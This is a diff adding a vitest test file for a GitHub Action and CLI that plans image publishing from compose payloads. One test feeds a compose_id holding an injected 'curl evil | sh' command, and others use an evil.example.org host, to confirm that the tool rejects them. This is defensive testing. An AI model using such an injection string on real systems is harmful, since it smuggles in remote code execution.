@@ -1,0 +1,123 @@
+import { execFile } from 'node:child_process';
+import { mkdtemp, readFile, rm } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { promisify } from 'node:util';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { parse } from 'yaml';
+import { DEFAULTS, INPUT_NAMES } from '../../src/inputs.js';
+import { generateCompose, statusMessage, type GeneratedCompose } from '../fixtures/compose.js';
+import { startFileServer, type FileServer } from '../fixtures/file-server.js';
+import { runAction } from '../helpers/runner.js';
+
+const ACTION = 'dist/action/index.js';
+const CLI = 'dist/cli/index.js';
+
+let dir: string;
+let compose: GeneratedCompose;
+let server: FileServer;
+
+beforeAll(async () => {
+  dir = await mkdtemp(join(tmpdir(), 'fedimg-dist-'));
+  compose = await generateCompose(dir, { rawSize: 700_000 });
+  server = await startFileServer(dir);
+});
+afterAll(async () => {
+  await server?.close();
+  await rm(dir, { recursive: true, force: true });
+});
+
+const loopback = () => ({ 'allowed-hosts': server.host, 'allow-http': 'true' });
+
+describe('action.yml', () => {
+  it('declares node24 with main and post entries that exist', async () => {
+    const action = parse(await readFile('action.yml', 'utf8'));
+    expect(action.runs).toEqual({ using: 'node24', main: 'dist/action/index.js', post: 'dist/action/index.js' });
+    await expect(readFile(action.runs.main)).resolves.toBeTruthy();
+    expect(action.branding).toMatchObject({ icon: expect.any(String), color: expect.any(String) });
+  });
+
+  it('documents exactly the inputs the code reads, with the same defaults', async () => {
+    const action = parse(await readFile('action.yml', 'utf8'));
+    expect(Object.keys(action.inputs).sort()).toEqual([...INPUT_NAMES].sort());
+    for (const [name, input] of Object.entries<{ description: string; default?: string }>(action.inputs)) {
+      expect(input.description.length, name).toBeGreaterThan(20);
+      if (name in DEFAULTS) expect(String(input.default), name).toBe(DEFAULTS[name as keyof typeof DEFAULTS]);
+    }
+    for (const output of Object.values<{ description: string }>(action.outputs)) expect(output.description.length).toBeGreaterThan(10);
+  });
+});
+
+describe('the bundled action, run as the runner runs it', () => {
+  it('plans from a dispatch payload: matrix output, summary table, post step', async () => {
+    const payload = JSON.stringify(statusMessage(compose, `${server.url}${compose.composeId}/compose`));
+    const main = await runAction(ACTION, { inputs: { stage: 'plan', 'compose-payload': payload, ...loopback() } });
+    expect(main.stderr).toBe('');
+    expect(main.exitCode).toBe(0);
+    const matrix = JSON.parse(main.outputs.images!);
+    expect(matrix.include.map((image: { arch: string; ec2_arch: string }) => [image.arch, image.ec2_arch]).sort()).toEqual([
+      ['aarch64', 'arm64'],
+      ['x86_64', 'x86_64'],
+    ]);
+    expect(main.outputs).toMatchObject({ 'image-count': '2', 'compose-id': compose.composeId, status: 'FINISHED', skipped: 'false' });
+    expect(main.summary).toContain('<table>');
+    expect(main.summary).toContain(compose.images[0]!.file);
+    expect(main.state.isPost).toBe('true');
+
+    const post = await runAction(ACTION, { inputs: { stage: 'plan' }, state: main.state });
+    expect(post.exitCode).toBe(0);
+    expect(post.stdout).toContain('fedimg post');
+    expect(post.outputs).toEqual({});
+  });
+
+  it('ends a DOOMED compose successfully with a notice and an empty matrix', async () => {
+    const payload = JSON.stringify(statusMessage(compose, `${server.url}${compose.composeId}/compose`, 'DOOMED'));
+    const run = await runAction(ACTION, { inputs: { 'compose-payload': payload, ...loopback() } });
+    expect(run.exitCode).toBe(0);
+    expect(run.stdout).toMatch(/::notice title=fedimg plan::Nothing was done: compose .* is DOOMED/);
+    expect(JSON.parse(run.outputs.images!)).toEqual({ include: [] });
+    expect(run.outputs.skipped).toBe('true');
+  });
+
+  it('fails with an annotated ComposeError for a disallowed host, without outputs', async () => {
+    const run = await runAction(ACTION, { inputs: { 'compose-location': 'https://evil.example.org/compose/x/compose' } });
+    expect(run.exitCode).toBe(1);
+    expect(run.stdout).toMatch(/::error title=fedimg compose::The compose location .* is not in allowed-hosts/);
+    expect(run.outputs).toEqual({});
+  });
+
+  it('fails with an input error for an injection-laden payload', async () => {
+    const payload = JSON.stringify({ ...statusMessage(compose, `${server.url}x/compose`), compose_id: 'x"; curl evil | sh; "' });
+    const run = await runAction(ACTION, { inputs: { 'compose-payload': payload, ...loopback() } });
+    expect(run.exitCode).toBe(1);
+    expect(run.stdout).toMatch(/::error title=fedimg compose::The compose payload is invalid: compose_id/);
+  });
+});
+
+describe('the bundled CLI', () => {
+  const run = promisify(execFile);
+  it('prints the plan as JSON on stdout and logs on stderr', async () => {
+    const { stdout, stderr } = await run(process.execPath, [
+      CLI,
+      'plan',
+      '--compose',
+      `${server.url}${compose.composeId}/compose`,
+      '--allowed-hosts',
+      server.host,
+      '--allow-http',
+      '--json',
+    ]);
+    const result = JSON.parse(stdout);
+    expect(result.plan.composeId).toBe(compose.composeId);
+    expect(result.matrix.include).toHaveLength(2);
+    expect(stderr).toContain('image(s) to publish');
+  });
+
+  it('exits 1 with the error on stderr for bad input, and 2 for bad usage', async () => {
+    await expect(run(process.execPath, [CLI, 'plan', '--compose', 'https://evil.example.org/c/compose'])).rejects.toMatchObject({
+      code: 1,
+      stderr: expect.stringContaining('not in allowed-hosts'),
+    });
+    await expect(run(process.execPath, [CLI, 'plan', '--bogus'])).rejects.toMatchObject({ code: 2 });
+  });
+});
